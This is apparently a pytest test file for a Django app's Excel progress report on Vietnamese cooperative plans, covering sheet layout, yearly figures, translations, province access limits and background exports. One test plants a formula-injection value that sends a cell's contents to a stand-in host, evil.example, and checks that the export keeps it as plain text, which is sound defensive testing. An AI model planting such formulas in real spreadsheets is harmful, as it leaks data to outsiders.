"""A plan's progress report in Excel: target against actual, per target and year, with status."""

import datetime
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from plans.models import Plan, Target
from plans.services import progress_recompute
from tests.factories import logged_in

pytestmark = pytest.mark.django_db

BAC_GIANG = "Nghị quyết Đại hội Liên minh HTX tỉnh Bắc Giang"


def report(client, plan):
    response = client.get(reverse("plan_report", args=[plan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment;" in response["Content-Disposition"]
    return load_workbook(BytesIO(response.content))


def test_one_row_per_target_with_each_year_s_actual_and_the_stored_status(client):
    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    book = report(logged_in(client, "lanhdao"), plan)
    sheet = book["Tiến độ"]
    assert sheet["A1"].value == plan.title
    header = [cell.value for cell in sheet[5]]
    assert header[:6] == ["TT", "Mục tiêu (nguyên văn)", "Chỉ tiêu", "Địa bàn", "Đơn vị tính", "Mục tiêu"]
    assert [f"Thực hiện {year}" for year in plan.years] == header[6 : 6 + len(plan.years)]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=6)]
    targets = list(plan.targets.select_related("progress").order_by("id"))
    assert [row[1] for row in rows] == [t.wording for t in targets]
    weak = next(t for t in targets if "HTX xếp loại yếu dưới 9%" in t.wording)
    row = rows[targets.index(weak)]
    assert row[5] == "< 9%" and row[4] == "%"
    assert row[-2] == weak.progress.get_status_display()
    numbers = f"({int(weak.progress.numerator)}/{int(weak.progress.denominator)})"
    assert row[-1].startswith("Năm 2025: thực hiện ") and row[-1].endswith(f"{numbers}; mục tiêu < 9%.")
    # Each year's figure is the stored one, as a number Excel can sum.
    for year_row in weak.progress_years.all():
        value = row[6 + list(plan.years).index(year_row.year)]
        assert value == pytest.approx(float(year_row.actual)) if year_row.actual is not None else value is None


def test_in_english_the_report_explains_each_target_in_english(client):
    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    english = logged_in(client, "lanhdao")
    english.post(reverse("set_language"), {"language": "en", "next": "/"})
    rows = list(report(english, plan).worksheets[0].iter_rows(min_row=6, values_only=True))
    targets = list(plan.targets.select_related("progress").order_by("id"))
    weak = targets.index(next(t for t in targets if "HTX xếp loại yếu dưới 9%" in t.wording))
    numbers = f"({int(targets[weak].progress.numerator)}/{int(targets[weak].progress.denominator)})"
    assert rows[weak][-1].startswith("2025: actual ") and rows[weak][-1].endswith(f"{numbers}; target < 9%.")
    every_year = next(row for row in rows if row[1] == "Hàng năm thành lập mới ít nhất 50 HTX")
    assert every_year[-1] == "4/6 years met; missed 2021, 2024. 2025: actual 50 HTX; target ≥ 50 HTX."
    assert not [row[-1] for row in rows if "thực hiện" in row[-1] or "mục tiêu" in row[-1]]


def test_the_by_year_sheet_has_a_row_per_target_and_year_with_its_status(client):
    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    sheet = report(logged_in(client, "lanhdao"), plan)["Theo năm"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=6)]
    stored = [(t.wording, y.year) for t in plan.targets.order_by("id") for y in t.progress_years.order_by("year")]
    assert [(row[1], row[2]) for row in rows] == stored
    assert {row[6] for row in rows} <= {
        "Đã đạt",
        "Đúng tiến độ",
        "Có nguy cơ không đạt",
        "Chậm tiến độ",
        "Không đạt",
        "Chưa có số liệu",
    }


def test_money_is_in_billions_of_dong_on_the_target_s_row(client):
    plan = Plan.objects.filter(targets__indicator__unit="vnd", targets__measure="level").distinct().first()
    rows = list(report(logged_in(client, "lanhdao"), plan)["Tiến độ"].iter_rows(min_row=6, values_only=True))
    money = [row for row in rows if row[4] == "tỷ đồng"]
    assert money and all("tỷ đồng" in row[5] for row in money)


def test_another_province_s_plan_is_not_found_and_the_page_links_the_report(client):
    bac_ninh = logged_in(client, "lanhdao.bacninh")
    visible = Plan.objects.visible_to(User.objects.get(username="lanhdao.bacninh"))
    own = visible.first()
    assert reverse("plan_report", args=[own.pk]) in bac_ninh.get(own.get_absolute_url()).content.decode()
    other = Plan.objects.exclude(pk__in=visible.values("pk")).first()
    assert bac_ninh.get(reverse("plan_report", args=[other.pk])).status_code == 404


def test_text_typed_by_staff_stays_text_and_word_s_line_breaks_do_not_break_the_report(client):
    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    first, second = plan.targets.order_by("id")[:2]
    Target.objects.filter(pk=first.pk).update(wording='=HYPERLINK("http://evil.example/?x="&A1,"bấm")')
    Target.objects.filter(pk=second.pk).update(wording="Thành lập mới\x0b150 HTX")  # Shift+Enter in Word
    book = report(logged_in(client, "lanhdao"), plan)
    for sheet in book:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
    wordings = [row[1] for row in book["Tiến độ"].iter_rows(min_row=6, values_only=True)]
    assert wordings[:2] == ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "Thành lập mới150 HTX"]


def test_reported_results_have_a_sheet_of_their_own_with_no_status(client):
    plan = Plan.objects.get(document_number="05-NQ/HU")
    book = report(logged_in(client, "lanhdao"), plan)
    assert book.sheetnames == ["Tiến độ", "Theo năm", "Kết quả đã báo cáo"]
    sheet = book["Kết quả đã báo cáo"]
    assert "Một huyện (văn bản nguồn không nêu tên huyện)" in sheet["A2"].value
    rows = list(sheet.iter_rows(min_row=6, values_only=True))
    assert [(row[1], row[2], row[3], row[4]) for row in rows][:2] == [
        ("Thành lập được 15 HTX", 15, "HTX", "không ghi ngày"),
        ("Trong đó 10 HTX nông nghiệp", 10, "HTX", "không ghi ngày"),
    ]
    assert len(rows) == plan.results.count()


def test_a_plan_without_results_has_no_results_sheet(client):
    book = report(logged_in(client, "lanhdao"), Plan.objects.get(title__startswith=BAC_GIANG))
    assert "Kết quả đã báo cáo" not in book.sheetnames


def test_past_years_of_a_running_term_target_are_on_the_path_in_the_by_year_sheet(client):
    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    progress_recompute(targets=plan.targets.all(), today=datetime.date(2025, 6, 30))
    sheet = report(logged_in(client, "lanhdao"), plan)["Theo năm"]
    loans = [row for row in sheet.iter_rows(min_row=6, values_only=True) if "khoảng 250 dự án" in row[1]]
    assert [row[2] for row in loans] == [2020, 2021, 2022, 2023, 2024, 2025]
    assert [row[5] for row in loans[:5]] == [pytest.approx(250 * n / 6, abs=0.01) for n in range(1, 6)]
    assert "Không đạt" not in {row[6] for row in loans}  # the term is not over


def test_a_large_plans_report_is_written_by_a_worker_with_the_same_rows(client, settings):
    from cooperatives.models import Export
    from plans.exports import plan_report_build

    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    leader = logged_in(client, "lanhdao")
    inline = [[c.value for c in row] for row in report(leader, plan)["Tiến độ"].iter_rows(min_row=5)]
    settings.EXPORT_PLAN_REPORT_TARGETS = plan.targets.count() - 1
    response = leader.get(reverse("plan_report", args=[plan.pk]))
    export = Export.objects.get(kind=Export.Kind.PLAN_REPORT)
    assert response.status_code == 302 and response["Location"] == export.get_absolute_url()
    assert (export.rows_total, export.params["plan"]) == (plan.targets.count(), plan.pk)
    done = plan_report_build(export_id=export.pk)  # what the worker runs
    assert (done.status, done.rows_done) == (Export.Status.DONE, plan.targets.count())
    download = leader.get(reverse("export_download", args=[export.pk]))
    book = load_workbook(BytesIO(b"".join(download.streaming_content)))
    assert [[c.value for c in row] for row in book["Tiến độ"].iter_rows(min_row=5)] == inline
    assert logged_in(client, "lanhdao.bacninh").get(export.get_absolute_url()).status_code == 404


def test_a_plan_its_owner_no_longer_sees_fails_the_background_report(client, settings):
    from cooperatives.models import Export
    from plans.exports import plan_report_build

    plan = Plan.objects.get(title__startswith=BAC_GIANG)
    settings.EXPORT_PLAN_REPORT_TARGETS = 0
    logged_in(client, "lanhdao").get(reverse("plan_report", args=[plan.pk]))
    export = Export.objects.get(kind=Export.Kind.PLAN_REPORT)
    User.objects.filter(username="lanhdao").update(is_active=False)  # locked since: it reads nothing
    done = plan_report_build(export_id=export.pk)
    assert done.status == Export.Status.FAILED and done.message
